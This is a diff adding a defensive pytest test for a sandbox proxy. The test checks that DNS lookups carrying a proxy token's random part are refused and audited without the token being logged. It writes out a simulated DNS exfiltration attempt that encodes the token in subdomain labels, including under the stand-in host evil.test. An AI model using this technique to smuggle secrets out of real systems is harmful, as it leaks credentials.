@@ -123,3 +123,31 @@ def test_udp_other_than_dns_goes_nowhere(transparent):
             "except OSError: print('unreachable')\n")
     r = transparent.run("/usr/bin/python3", "-c", code)
     assert r.out.split() == ["nothing", "unreachable"], r
+
+
+def test_dns_name_with_token_is_a_leak_attempt(transparent):
+    """Tripwire: a token's random part in a DNS name (even under an allowed
+    wildcard like *.openrouter.ai, or split across labels) gets NXDOMAIN and an
+    audit record naming the sandbox as the daemon's records do, never the token."""
+    rand = transparent.token.rsplit("-", 1)[1]
+    names = [f"{rand}.openrouter.ai", f"x{rand[:16]}.{rand[16:]}.evil.test"]
+    code = ("import socket, sys\n"
+            "for n in sys.argv[1:]:\n"
+            "    try: print(socket.getaddrinfo(n, 443)[0][4][0])\n"
+            "    except socket.gaierror: print('refused')\n")
+    # and, from the same sandbox, a request through the daemon for its identity there
+    r = transparent.run("sh", "-c", '/usr/bin/python3 -c "$0" "$1" "$2" && exec curl -q -sS '
+                        '--max-time 10 -o /dev/null https://api.openai.test/v1/models',
+                        code, *names)
+    assert r.rc == 0 and r.out.split() == ["refused", "refused"], r
+    recs = audit(transparent)
+    leaks = [a for a in recs if a.get("reason") == "token_leak_attempt"]
+    assert all(a["mode"] == "dns" and a["decision"] == "deny" for a in leaks), leaks
+    # one record per query (A and AAAA): both names were caught
+    assert {a["host"] for a in leaks} == {rand[:4] + "...", "(withheld: it holds a proxy token)"}, \
+        leaks
+    daemon = [a for a in recs if a.get("path") == "/v1/models"][-1]
+    assert daemon["client"].startswith("unix:pid="), daemon
+    assert all(a["client"] == daemon["client"] for a in leaks), (leaks, daemon)
+    text = transparent.cli.read("audit.log")
+    assert rand[:8] not in text and rand[16:24] not in text
